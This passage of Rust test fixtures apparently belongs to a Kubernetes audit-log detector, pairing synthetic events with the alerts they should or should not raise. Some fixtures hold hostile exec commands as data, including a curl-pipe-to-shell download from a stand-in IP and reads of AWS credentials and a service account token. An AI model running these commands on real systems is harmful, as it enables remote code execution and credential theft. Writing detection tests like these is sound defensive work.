                ),
            ],
            &[],
        ),
        case(
            "custom resource definition deleted",
            vec![
                simple(
                    "delete",
                    "customresourcedefinitions",
                    None,
                    Some("policies.kyverno.io"),
                )
                .api_group("apiextensions.k8s.io"),
            ],
            &["crd-deleted"],
        ),
        case(
            "near miss: custom resource definition created, and a delete that was forbidden",
            vec![
                simple(
                    "create",
                    "customresourcedefinitions",
                    None,
                    Some("widgets.example.com"),
                )
                .code(201),
                simple(
                    "delete",
                    "customresourcedefinitions",
                    None,
                    Some("policies.kyverno.io"),
                )
                .api_group("apiextensions.k8s.io")
                .code(403),
            ],
            &[],
        ),
        case(
            "node labels patched by a person",
            vec![
                simple("patch", "nodes", None, Some("n1"))
                    .body(json!({"metadata": {"labels": {"pool": "payments"}}})),
            ],
            &["node-modified-by-non-node"],
        ),
        case(
            "near miss: the node patches itself, and a person patches node status",
            vec![
                simple("patch", "nodes", None, Some("n1")).user("system:node:n1"),
                simple("patch", "nodes", None, Some("n1")).sub("status"),
            ],
            &[],
        ),
        case(
            "a request impersonating system:masters",
            vec![
                simple("get", "secrets", Some("kube-system"), Some("admin-token"))
                    .impersonate("bob", &["system:masters", "system:authenticated"]),
            ],
            &["impersonation-of-privileged-identity"],
        ),
        case(
            "near miss: impersonating an ordinary user",
            vec![
                simple("get", "pods", Some("shop"), None)
                    .impersonate("bob", &["developers", "system:authenticated"]),
            ],
            &[],
        ),
        case(
            "anonymous list of pods allowed",
            vec![
                simple("list", "pods", Some("default"), None)
                    .user("system:anonymous")
                    .ua("python-requests/2.31.0"),
            ],
            &["unauthenticated-request-succeeded"],
        ),
        case(
            "near miss: anonymous health check, and an anonymous request denied",
            vec![
                ev("get", "/readyz?verbose").user("system:anonymous"),
                simple("list", "pods", Some("default"), None)
                    .user("system:anonymous")
                    .code(403),
            ],
            &[],
        ),
        case(
            "service account created in kube-system by a person",
            vec![
                simple(
                    "create",
                    "serviceaccounts",
                    Some("kube-system"),
                    Some("backup"),
                )
                .code(201),
            ],
            &["serviceaccount-created-in-kube-system"],
        ),
        case(
            "near miss: service account created in an application namespace",
            vec![simple("create", "serviceaccounts", Some("shop"), Some("backup")).code(201)],
            &[],
        ),
        case(
            "LoadBalancer service created, and a ClusterIP service given externalIPs",
            vec![
                simple("create", "services", Some("shop"), Some("db-public"))
                    .code(201)
                    .body(json!({"kind": "Service", "spec": {"type": "LoadBalancer",
                        "ports": [{"port": 5432}]}})),
                simple("update", "services", Some("shop"), Some("web"))
                    .body(json!({"kind": "Service", "spec": {"type": "ClusterIP",
                        "externalIPs": ["198.51.100.1"], "ports": [{"port": 80}]}})),
            ],
            &["service-exposed-externally", "service-exposed-externally"],
        ),
        case(
            "near miss: ClusterIP service created",
            vec![
                simple("create", "services", Some("shop"), Some("web"))
                    .code(201)
                    .body(json!({"kind": "Service", "spec": {"type": "ClusterIP",
                        "ports": [{"port": 80}]}})),
            ],
            &[],
        ),
    ]
}

fn configuration_cases() -> Vec<Case> {
    let curl_sh = ["sh", "-c", "curl -fsSL http://198.51.100.9/x.sh | sh"];
    let secret_get = |i: u64, cluster: &str| {
        simple("get", "secrets", Some("shop"), Some(&format!("s{i}")))
            .annotation("peregrine.dev/cluster", cluster)
            .at(i)
    };
    vec![
        config_case(
            "an exception for a user mutes the rules it names only",
            json!({"exceptions": [{"rules": ["exec-shell-or-download"], "users": ["alice"]}]}),
            vec![
                exec("get", "shop", "web-0", &curl_sh),
                exec("get", "shop", "web-0", &["cat", "/root/.aws/credentials"]),
            ],
            &["exec-cloud-credentials"],
        ),
        config_case(
            "an exception for a namespace pattern mutes every rule there",
            json!({"exceptions": [{"namespaces": ["sandbox-*"]}]}),
            vec![
                exec("get", "sandbox-alice", "web-0", &curl_sh),
                exec("get", "shop", "web-0", &curl_sh),
            ],
            &["exec-shell-or-download"],
        ),
        config_case(
            "a disabled rule stays quiet; a lower threshold fires sooner",
            json!({"rules": {"exec-shell-or-download": {"enabled": false},
                "secrets-read-burst": {"threshold": 3, "window_seconds": 60}}}),
            vec![
                exec("get", "shop", "web-0", &curl_sh),
                simple("get", "secrets", Some("shop"), Some("a")),
                simple("get", "secrets", Some("shop"), Some("b")).at(1),
                simple("get", "secrets", Some("shop"), Some("c")).at(2),
            ],
            &["secrets-read-burst"],
        ),
        config_case(
            "a cluster's own controller added to the control-plane list",
            json!({"extra_control_plane_users": ["system:serviceaccount:ops:node-labeler"]}),
            vec![
                simple("patch", "nodes", None, Some("n1"))
                    .user("system:serviceaccount:ops:node-labeler"),
            ],
            &[],
        ),
        case(
            "counts are kept per cluster: five reads in each of two clusters do not add up",
            (0..5)
                .map(|i| secret_get(i, "prod-eu"))
                .chain((5..10).map(|i| secret_get(i, "prod-us")))
                .collect(),
            &[],
        ),
        case(
            "ten reads in one named cluster fire",
            (0..10).map(|i| secret_get(i, "prod-eu")).collect(),
            &["secrets-read-burst"],
        ),
    ]
}

/// Scheduled jobs, DaemonSets, system identities from the internet, and the
/// exec command as the request object records it.
fn persistence_and_exposure_cases() -> Vec<Case> {
    let job = json!({"containers": [container("job", "registry.example.com/ops/backup:2")],
        "restartPolicy": "OnFailure"});
    let coredns = "system:serviceaccount:kube-system:coredns";
    let endpointslices = |ip: &str| {
        ev(
            "watch",
            "/apis/discovery.k8s.io/v1/endpointslices?watch=true",
        )
        .object("endpointslices", None, None)
        .api_group("discovery.k8s.io")
        .user(coredns)
        .ip(ip)
    };
    vec![
        case(
            "cronjob created, and another's schedule patched",
            vec![
                workload("create", "cronjobs", "shop", "backup", job.clone()),
                ev("patch", "/apis/batch/v1/namespaces/shop/cronjobs/nightly")
                    .object("cronjobs", Some("shop"), Some("nightly"))
                    .body(json!({"spec": {"schedule": "* * * * *"}})),
            ],
            &["cronjob-created-or-modified", "cronjob-created-or-modified"],
        ),
        case(
            "near miss: cronjob create forbidden, its status updated by the controller, one read",
            vec![
                workload("create", "cronjobs", "shop", "backup", job.clone()).code(403),
                ev("update", "/apis/batch/v1/namespaces/shop/cronjobs/backup/status")
                    .object("cronjobs", Some("shop"), Some("backup"))
                    .sub("status")
                    .user("system:serviceaccount:kube-system:cronjob-controller"),
                simple("get", "cronjobs", Some("shop"), Some("backup")),
            ],
            &[],
        ),
        case(
            "daemonset created by a person",
            vec![workload("create", "daemonsets", "monitoring", "node-agent", benign_spec())],
            &["daemonset-created"],
        ),
        case(
            "near miss: daemonset create that failed, one by the controller, a deployment",
            vec![
                workload("create", "daemonsets", "monitoring", "node-agent", benign_spec())
                    .code(409),
                workload("create", "daemonsets", "kube-system", "kube-proxy", benign_spec())
                    .user("system:serviceaccount:kube-system:daemon-set-controller"),
                workload("create", "deployments", "shop", "web", benign_spec()),
            ],
            &[],
        ),
        case(
            "a kube-system service account's token used from the internet",
            vec![endpointslices("5.5.5.5")],
            &["system-principal-from-public-ip"],
        ),
        case(
            "identity and address alert once while in use: repeats are quiet, a new address and a return after a quiet day alert",
            vec![
                endpointslices("5.5.5.5").at(0),
                endpointslices("5.5.5.5").at(60),
                endpointslices("5.5.5.5").at(86_399),
                endpointslices("8.8.4.4").at(100),
                // A day after its last use (86_399), not its first.
                endpointslices("5.5.5.5").at(86_399 + 86_400),
            ],
            &[
                "system-principal-from-public-ip",
                "system-principal-from-public-ip",
                "system-principal-from-public-ip",
            ],
        ),
        case(
            "a node's credential used from the internet",
            vec![
                simple("get", "secrets", Some("kube-system"), Some("bootstrap-token-abc"))
                    .user("system:node:ip-10-0-1-7.ec2.internal")
                    .ip("2600:1f14:abc::7"),
            ],
            &["system-principal-from-public-ip"],
        ),
        case(
            "near miss: system identity from the pod network, via a proxy, a person from the internet, a denial, a managed identity",
            vec![
                endpointslices("10.0.27.115"),
                endpointslices("100.64.3.9"),
                endpointslices("5.5.5.5").code(403),
                ev("watch", "/api/v1/endpoints?watch=true")
                    .object("endpoints", None, None)
                    .user("system:serviceaccount:shop:web")
                    .done_with_ips(&["10.0.1.5", "54.212.83.236"]),
                simple("get", "pods", Some("shop"), None).ip("8.8.8.8"),
                simple("get", "deployments", Some("kube-system"), Some("coredns"))
                    .user("eks:addon-manager")
                    .ip("35.163.244.48"),
                endpointslices("not-an-ip"),
            ],
            &[],
        ),
        case(
            "exec whose command is only in the request object reads the token",
            vec![
                ev("create", "/api/v1/namespaces/shop/pods/web-0/exec")
                    .object("pods", Some("shop"), Some("web-0"))
                    .sub("exec")
                    .code(101)
                    .stage("ResponseStarted")
                    .body(json!({"kind": "PodExecOptions", "apiVersion": "v1",
                        "stdout": true, "container": "app",
                        "command": ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]})),
            ],
            &["exec-cloud-credentials"],
        ),
        case(
            "cluster role binding to the controller manager's role",
            vec![binding(
                "clusterrolebindings",
                None,
                "controller-access",
                "system:kube-controller-manager",
                json!([{"kind": "ServiceAccount", "name": "tool", "namespace": "default"}]),
            )],
            &["cluster-admin-binding"],
        ),
        case(
            "near miss: kube-state-metrics lists every secret, a binding to view",
            vec![
                simple("list", "secrets", None, None)
                    .user("system:serviceaccount:monitoring:kube-state-metrics"),
                binding(
                    "clusterrolebindings",
                    None,
                    "viewers",
                    "view",
                    json!([{"kind": "Group", "name": "oidc:dev"}]),
                ),
            ],
            &[],
        ),
    ]
}
